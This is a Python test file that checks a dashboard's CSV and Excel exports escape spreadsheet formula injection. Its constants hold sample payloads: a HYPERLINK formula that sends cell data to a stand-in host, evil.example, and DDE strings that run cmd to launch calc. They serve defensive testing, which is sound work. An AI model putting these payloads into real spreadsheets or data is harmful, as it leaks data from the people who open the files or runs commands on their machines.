"""Every CSV the product writes escapes cells a spreadsheet would run as formulas (CWE-1236):
the explorer's CSV download, `loaders quarantine --csv` and `indicators goals --csv`. Text that
starts with `=`, `+`, `-`, `@`, a tab or a CR gets a leading `'`; numbers stay numbers. The
Excel download writes text as strings, never formulas."""

from __future__ import annotations

import base64
import csv
import io
import shutil
import zipfile

import openpyxl
import pandas as pd
import pytest

from dashboard.explore import exports
from dashboard.ui import ids
from tests.support.sessions import signed_in
from warehouse import csv_safety
from warehouse.db import connect, transaction
from warehouse.explore.dataset_parts import Column
from warehouse.explore.queries import SourceInfo

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
ATTACKS = (HYPERLINK, DDE, AT_SUM, TAB, CR, MINUS)


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_leading_text_gets_a_quote(text):
    assert csv_safety.escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Valparaíso", "", "a=b", " =1", "'=1", "-12,5", "+3", "-1.234,5", "-0.5", "1e5", "-2E-3",
     -12.5, -3, 0, None, True, pd.Timestamp("2025-01-01")],
)  # fmt: skip
def test_safe_text_and_numbers_are_left_as_they_are(value):
    assert csv_safety.escape_cell(value) is value


def test_frame_text_is_escaped_whatever_its_dtype_and_numbers_are_not():
    frame = pd.DataFrame(
        {
            "objeto": pd.Series([HYPERLINK, "-12,5", None, 7], dtype=object),
            "texto": pd.Series([DDE, "ok", None, "-"], dtype="string"),
            "categoria": pd.Categorical([AT_SUM, "a", "a", TAB]),
            "entero": [-1, 2, -3, 4],
            "decimal": [-0.5, 1.5, None, -2.0],
            "fecha": pd.to_datetime(["2025-01-01"] * 4),
        }
    )
    before = frame.copy()
    safe = csv_safety.escape_frame(frame)
    assert safe["objeto"].tolist() == ["'" + HYPERLINK, "-12,5", None, 7]
    assert safe["texto"].tolist()[:2] == ["'" + DDE, "ok"] and safe["texto"][3] == "'-"
    assert safe["categoria"].tolist() == ["'" + AT_SUM, "a", "a", "'" + TAB]
    assert safe["entero"].tolist() == [-1, 2, -3, 4]
    assert safe["decimal"].dtype == frame["decimal"].dtype
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not touched


def test_csv_quotes_cells_with_line_breaks_and_escapes_the_header():
    """A CR inside a cell, unquoted, would start a new row in Excel whose first cell is the
    formula after it: lines end in CRLF, so the csv module quotes such a cell."""
    frame = pd.DataFrame({"=nombre": ["abc\r=1+1", "x\n@SUM(1)"], "n": [-1, 2]})
    text = csv_safety.to_csv(frame, index=False)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["'=nombre", "n"], ["abc\r=1+1", "-1"], ["x\n@SUM(1)", "2"]]
    assert text.endswith("\r\n") and '"abc\r=1+1"' in text
    with pytest.raises(ValueError, match="CRLF"):
        csv_safety.to_csv(frame, index=False, lineterminator="\n")


# --------------------------------------------------------------------------- the explorer


COLUMNS = (Column("meta", "Meta"), Column("unidad", "Unidad"), Column("valor", "Valor", "number"))
FRAME = pd.DataFrame(
    {
        "meta": [HYPERLINK, DDE, "Viviendas"],
        "unidad": [TAB, AT_SUM, CR],
        "valor": [-12.5, 3.25, -1.5],
    }
)


def read_export(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_explorer_csv_escapes_formulas_and_keeps_negative_numbers():
    rows = read_export(exports.csv_bytes(FRAME, COLUMNS))
    assert rows == [
        ["Meta", "Unidad", "Valor"],
        ["'" + HYPERLINK, "'" + TAB, "-12,5"],
        ["'" + DDE, "'" + AT_SUM, "3,25"],
        ["Viviendas", "'" + CR, "-1,5"],
    ]


def test_excel_export_writes_formula_text_as_strings_never_formulas():
    info = exports.ExportInfo("Metas", [], [HYPERLINK], SourceInfo("x.duckdb", None, False),
                              pd.Timestamp("2025-06-18").to_pydatetime(), 3)  # fmt: skip
    content = exports.xlsx_bytes(FRAME, COLUMNS, info)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for row in book["Datos"].iter_rows(min_row=2) for c in row]
    text = [c for c in cells if c.column_letter in "AB"]
    # xlsxwriter stores a CR as Excel's escape _x000D_, which Excel reads back as a CR
    values = [c.value.replace("_x000D_", "\r") for c in text]
    assert values == [HYPERLINK, TAB, DDE, AT_SUM, "Viviendas", CR]
    assert {c.data_type for c in text} == {"s"}
    assert [c.value for c in cells if c.column_letter == "C"] == [-12.5, 3.25, -1.5]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) for n in sheets)


def test_the_explorer_download_escapes_loaded_text(make_warehouse, app_for):
    """Through the real callback: goal text loaded as formulas comes back escaped."""
    path = make_warehouse()
    con = connect(path)
    try:
        with transaction(con):
            con.execute(
                "UPDATE metas SET nombre = ?, unidad = ?, valor_meta = -12.5"
                " WHERE codigo_meta = 'M-02'",
                [HYPERLINK, DDE],
            )
    finally:
        con.close()
    client = signed_in(app_for(path), "presidencia")
    pattern = next(
        i["id"] for k, spec in client.app.callback_map.items() if "explorar-descarga.data" in k
        for i in spec["state"] if i["id"].startswith("{")
    )  # fmt: skip
    answer = client.callback(
        f"{ids.EXPLORE_DOWNLOAD}.data",
        inputs={f"{ids.EXPLORE_CSV}.n_clicks": 1, f"{ids.EXPLORE_XLSX}.n_clicks": None},
        state={f"{pattern}.value": [], f"{pattern}.id": [], f"{ids.EXPLORE_GRID}.filterModel": {}},
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    sent = answer.get_json()["response"][ids.EXPLORE_DOWNLOAD]["data"]
    rows = read_export(base64.b64decode(sent["content"]))
    header, body = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert "Meta" in header and "Unidad" in header
    assert body["M-02"]["Meta"] == "'" + HYPERLINK
    assert body["M-02"]["Unidad"] == "'" + DDE
    assert body["M-02"]["Valor meta"] == "-12,5"


# --------------------------------------------------------------------------- command line


def test_quarantine_csv_escapes_the_senders_formulas(reference_db, tmp_path, capsys):
    from loaders.cli import main

    db = tmp_path / "tablero.duckdb"
    shutil.copy(reference_db, db)  # schema and territory only: the loader writes the rest
    sent = tmp_path / "poblacion.csv"
    lines = ["territorio;anio;poblacion", "05101;2024;1000"]
    lines += [f'"{text.replace(chr(34), chr(34) * 2)}";2024;5' for text in (HYPERLINK, DDE)]
    lines += ["99;2024;-12"]
    sent.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["ingest", "--db", str(db), str(sent)]) == 3
    out = tmp_path / "corregir.csv"
    assert main(["quarantine", "--db", str(db), "--file", "poblacion.csv", "--csv", str(out)]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    by_line = {row["linea_original"]: row for row in rows}
    assert by_line["3"]["territorio"] == "'" + HYPERLINK
    assert by_line["4"]["territorio"] == "'" + DDE
    assert by_line["5"]["territorio"] == "99" and by_line["5"]["poblacion"] == "-12"


def test_indicators_goals_csv_escapes_goal_text(make_warehouse, capsys):
    from indicators.cli import main

    db = make_warehouse()
    con = connect(db)
    try:
        with transaction(con):
            con.execute("UPDATE metas SET nombre = ?, unidad = ? WHERE codigo_meta = 'M-03'",
                        [AT_SUM, MINUS])  # fmt: skip
    finally:
        con.close()
    assert main(["goals", "--db", str(db), "--as-of", "2025-06", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    goal = next(row for row in rows if row["codigo_meta"] == "M-03")
    assert goal["nombre"] == "'" + AT_SUM and goal["unidad"] == "'" + MINUS
    assert all(not row["nombre"].startswith(("=", "+", "-", "@")) for row in rows)
